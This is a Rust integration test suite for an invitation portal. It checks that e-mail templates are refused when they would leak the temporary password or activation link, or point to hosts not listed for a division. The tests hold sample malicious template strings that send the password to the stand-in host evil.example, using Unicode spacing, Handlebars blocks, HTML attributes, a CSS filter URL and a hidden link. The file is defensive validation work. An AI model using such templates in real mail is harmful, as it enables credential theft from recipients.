//! Guarantee 10: a template whose e-mails would disclose the temporary password or the activation link, or lead to a
//! foreign page.

use portal_aws::clock;
use portal_aws::directory::keys;
use portal_aws::table::{key, s};
use portal_domain::mail::template::newest_built_in;
use portal_domain::schedule::{Failure, Verdict};
use portal_domain::{CampaignId, TemplateId};
use serde_json::{Value, json};
use tests::World;
use tests::cloud::DIRECTORY;
use tests::http::{Answer, Call};
use tests::scheduling::{Scheduling, weekly};
use tests::world::SENDER;

/// A template whose bodies have this besides what they must have.
fn draft(html: &str, text: &str) -> Value {
    json!({
        "name": "Ours", "subject": "Your access",
        "html": format!("<p>{{{{temporaryPassword}}}}</p><p><a href=\"{{{{activationLink}}}}\">Activate</a></p>{html}"),
        "text": format!("{{{{temporaryPassword}}}}\n{{{{activationLink}}}}\n{text}"),
    })
}

/// The same, with an address of this server in both bodies.
fn naming(host: &str) -> Value {
    draft(&format!("<a href=\"https://{host}/help\">Help</a>"), &format!("Help: {host}/help\n"))
}

async fn post(world: &World, path: &str, body: &Value) -> Answer {
    world
        .call(
            Call::new("POST", path).claim("email", world.email("operator")).claim("email_verified", "true").json(body),
        )
        .await
}

async fn saved(world: &World, draft: &Value) -> String {
    let answer = post(world, "/v1/templates", draft).await;
    assert_eq!(answer.status, 201, "{}", answer.text);
    answer.json()["templateId"].as_str().unwrap().to_owned()
}

async fn send(world: &World, division: &str, template: &str) -> Answer {
    let mut request = world.send_request(division).await;
    request["templateId"] = json!(template);
    world.post_campaign(&uuid::Uuid::new_v4().to_string(), &request).await
}

fn campaign_id(answer: &Answer) -> CampaignId {
    assert_eq!(answer.status, 202, "{}", answer.text);
    answer.json()["campaignId"].as_str().unwrap().parse().unwrap()
}

async fn list_hosts(world: &World, division: &str, hosts: &[&str]) {
    let body = json!({"name": "Hauling", "email": SENDER, "timeZone": "America/New_York", "portalUrl": "https://portal.example.com",
        "linkHosts": hosts});
    let answer = world.call(Call::new("PUT", &format!("/v1/divisions/{division}")).json(&body)).await;
    assert_eq!(answer.status, 200, "{}", answer.text);
    // As of every list, there is none where it is empty.
    let listed = answer.json()["linkHosts"].as_array().cloned().unwrap_or_default();
    assert_eq!(listed, hosts);
}

/// The one fault of an answer, which is about the template.
fn fault(answer: &Answer) -> String {
    assert_eq!(
        (answer.status.as_u16(), answer.faulty_fields()),
        (400, vec!["templateId".to_owned()]),
        "{}",
        answer.text
    );
    answer.json()["errors"][0]["message"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn is_not_saved() {
    let world = World::new().await;
    let joined = "https://evil.example/?p={{#unless division.name}}\n{{/unless}}\n{{temporaryPassword}}";
    let spaced = ["\u{2003}", "\u{2009}", "\u{2028}"]
        .map(|space| format!("https://evil.example/?p={space}{{{{temporaryPassword}}}}"));
    let texts = spaced.iter().map(String::as_str).chain([joined, "\"https://evil.example/?p= {{temporaryPassword}}\""]);
    for text in texts {
        let refused = post(&world, "/v1/templates", &draft("", text)).await;
        assert_eq!((refused.status.as_u16(), refused.faulty_fields()), (400, vec!["text".to_owned()]), "{text}");
        let refused = post(&world, "/v1/templates", &draft(&format!("<p>{text}"), "")).await;
        assert_eq!((refused.status.as_u16(), refused.faulty_fields()), (400, vec!["html".to_owned()]), "{text}");
    }
    let markup = [
        "<p title=\"{{temporaryPassword}}\">",
        "<img src=\"{{division.logoUrl}}\" alt=\"{{temporaryPassword}}\">",
        "<p data-p=\"{{activationLink}}\">",
        "<p style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://evil.example/x')\">",
        "<a href=\"https://evil.example/\">https://portal.example.com/</a>",
    ];
    for html in markup {
        let refused = post(&world, "/v1/templates", &draft(html, "")).await;
        assert_eq!((refused.status.as_u16(), refused.faulty_fields()[0].as_str()), (400, "html"), "{html}");
    }
    let mut hidden = draft("", "");
    hidden["html"] = json!(
        "<p>{{temporaryPassword}}</p><a hidden href=\"{{activationLink}}\">x</a><a href=\"https://evil.example/\">Activate</a>"
    );
    let refused = post(&world, "/v1/templates", &hidden).await;
    assert!(refused.text.contains("`activationLink` is hidden"), "{}", refused.text);
}

/// Templates are shared by all divisions and saved without one, so a link is checked where the template is used.
#[tokio::test]
async fn links_to_no_server_but_those_of_the_division_that_uses_it() {
    let world = World::with_people(1).await;
    world.put_division("SOUTH").await;
    let template = saved(&world, &naming("help.example.net")).await;
    let preview = json!({"division": "NORTH"});
    let (stored, test) = (format!("/v1/templates/{template}/preview"), format!("/v1/templates/{template}/test"));
    let mut unsaved = naming("help.example.net");
    unsaved.as_object_mut().unwrap().remove("name");
    unsaved["division"] = json!("NORTH");
    let schedule = weekly(json!({"templateId": template}));
    let refused = [
        send(&world, "NORTH", &template).await,
        post(&world, "/v1/schedules", &schedule).await,
        post(&world, &stored, &preview).await,
        post(&world, "/v1/templates/preview", &unsaved).await,
        post(&world, &test, &json!({"division": "NORTH", "emailFrom": SENDER})).await,
    ];
    for answer in refused {
        let fault = fault(&answer);
        assert!(fault.contains("help.example.net") && fault.contains("linkHosts"), "{fault}");
    }
    world.pump().await;
    assert_eq!(world.mails().len(), 0);

    list_hosts(&world, "NORTH", &["help.example.net"]).await;
    for (path, body) in [(stored.as_str(), &preview), ("/v1/templates/preview", &unsaved)] {
        assert_eq!(post(&world, path, body).await.status, 200, "{path}");
    }
    assert_eq!(post(&world, "/v1/schedules", &schedule).await.status, 201);
    campaign_id(&send(&world, "NORTH", &template).await);
    world.pump().await;
    assert_eq!(world.mails().len(), 1);
    let elsewhere = post(&world, &stored, &json!({"division": "SOUTH"})).await;
    assert!(fault(&elsewhere).contains("help.example.net"), "another division lists nothing");
    for own in ["portal.example.com", "simulator.amazonses.com"] {
        let template = saved(&world, &naming(own)).await;
        let shown = post(&world, &format!("/v1/templates/{template}/preview"), &json!({"division": "SOUTH"})).await;
        assert_eq!(shown.status, 200, "{own}: {}", shown.text);
    }
}

#[tokio::test]
async fn a_schedule_says_that_its_template_is_not_for_its_division_any_more() {
    let scheduling = Scheduling::with_people(1).await;
    let world = &scheduling.world;
    list_hosts(world, "NORTH", &["help.example.net"]).await;
    let template = saved(world, &naming("help.example.net")).await;
    let schedule = scheduling.schedule(json!({"templateId": template})).await;
    list_hosts(world, "NORTH", &[]).await;
    let verdict = scheduling.verdict(&schedule, clock::now()).await;
    assert_eq!(verdict, Verdict::failed(Failure::TemplateRefused));
    world.pump().await;
    assert_eq!(world.mails().len(), 0);
    let told = scheduling.occurrences(&schedule).await;
    assert_eq!(told[0]["reason"], "templateRefused", "{}", told[0]);
}

/// Nobody is mailed, and nobody is lost: the rows failed, and can be retried.
#[tokio::test]
async fn a_campaign_whose_division_changed_meanwhile_mails_nobody_with_it() {
    let world = World::with_people(2).await;
    list_hosts(&world, "NORTH", &["help.example.net"]).await;
    let template = saved(&world, &naming("help.example.net")).await;
    let id = campaign_id(&send(&world, "NORTH", &template).await);
    list_hosts(&world, "NORTH", &[]).await;
    world.pump().await;
    let campaign = world.campaign(id).await;
    assert_eq!((&campaign["state"], &campaign["outcomes"]["failed"]), (&json!("completed"), &json!(2)), "{campaign}");
    assert!(world.ledger(id).await.iter().all(|row| row.reason.as_deref() == Some("notRenderable")));
    assert_eq!(world.mails().len(), 0);
    for person in ["p0", "p1"] {
        let recipient = world.recipient("NORTH", &world.email(person)).await.unwrap();
        assert_eq!((recipient.digest, recipient.last_invited_at), (None, None), "not invited");
    }
    list_hosts(&world, "NORTH", &["help.example.net"]).await;
    let retried = post(&world, &format!("/v1/campaigns/{id}/retry"), &json!({})).await;
    assert_eq!(retried.status, 200, "{}", retried.text);
    world.pump().await;
    assert_eq!(world.mails().len(), 2);
}

/// Whoever asks for a new e-mail gets one: that of the built-in template.
#[tokio::test]
async fn who_asks_for_a_new_email_gets_none_of_it() {
    let world = World::with_people(2).await;
    list_hosts(&world, "NORTH", &["help.example.net"]).await;
    let template = saved(&world, &naming("help.example.net")).await;
    campaign_id(&send(&world, "NORTH", &template).await);
    world.pump().await;
    list_hosts(&world, "NORTH", &[]).await;
    world.ask_again("NORTH", &world.email("p0")).await;
    world.pump().await;
    let mails = world.mails();
    assert_eq!(mails.len(), 3);
    assert!(mails[0].text.contains("help.example.net") && !mails[2].text.contains("help.example.net"));
    assert!(mails[2].subject.starts_with("Your access to the") && mails[2].to == [world.email("p0")]);
}

/// The text of a version as an earlier release, with other rules, may have saved it.
async fn as_saved_before(world: &World, template: &str, text: &str) {
    let version = key(keys::template_pk(&TemplateId::new(template)), keys::version_sk(1));
    let update = world.dynamo.update_item().table_name(DIRECTORY).set_key(Some(version));
    let update = update.update_expression("SET #text = :text").expression_attribute_names("#text", "text");
    update.expression_attribute_values(":text", s(text)).send().await.unwrap();
}

const CARRIES: &str = "{{activationLink}} https://evil.example/?p={{#unless name}}\n{{/unless}}\n{{temporaryPassword}}";

#[tokio::test]
async fn a_version_that_an_earlier_release_saved_is_checked_before_it_is_used() {
    let world = World::with_people(2).await;
    let template = saved(&world, &draft("", "")).await;
    let id = campaign_id(&send(&world, "NORTH", &template).await);
    as_saved_before(&world, &template, &format!("{{{{temporaryPassword}}}}\n{CARRIES}")).await;
    let preview = format!("/v1/templates/{template}/preview");
    let test = format!("/v1/templates/{template}/test");
    world.pump().await;
    let campaign = world.campaign(id).await;
    assert_eq!((&campaign["state"], &campaign["outcomes"]["failed"]), (&json!("completed"), &json!(2)), "{campaign}");
    assert!(world.ledger(id).await.iter().all(|row| row.reason.as_deref() == Some("notRenderable")));
    let refused = [
        send(&world, "NORTH", &template).await,
        post(&world, "/v1/schedules", &weekly(json!({"templateId": template}))).await,
        post(&world, &preview, &json!({"division": "NORTH"})).await,
        post(&world, &test, &json!({"division": "NORTH", "emailFrom": SENDER})).await,
    ];
    for answer in refused {
        let fault = fault(&answer);
        assert!(fault.contains("version 1") && fault.contains("text 4:1 "), "{fault}");
    }
    assert_eq!(world.mails().len(), 0);

    // Saved anew, it can be used; who failed is mailed by a new campaign at once.
    let mut mended = draft("", "");
    mended["version"] = json!(1);
    assert_eq!(world.call(Call::new("PUT", &format!("/v1/templates/{template}")).json(&mended)).await.status, 200);
    campaign_id(&send(&world, "NORTH", &template).await);
    world.pump().await;
    assert_eq!(world.mails().len(), 2);
}

#[tokio::test]
async fn the_built_in_template_and_a_copy_of_it_are_for_every_division() {
    for is_copied in [false, true] {
        let world = World::with_people(1).await;
        let mut copy = json!(newest_built_in().sources);
        copy["name"] = json!("A copy");
        let template = if is_copied { saved(&world, &copy).await } else { "portal-invitation".to_owned() };
        campaign_id(&send(&world, "NORTH", &template).await);
        world.pump().await;
        assert_eq!(world.mails().len(), 1);
    }
}
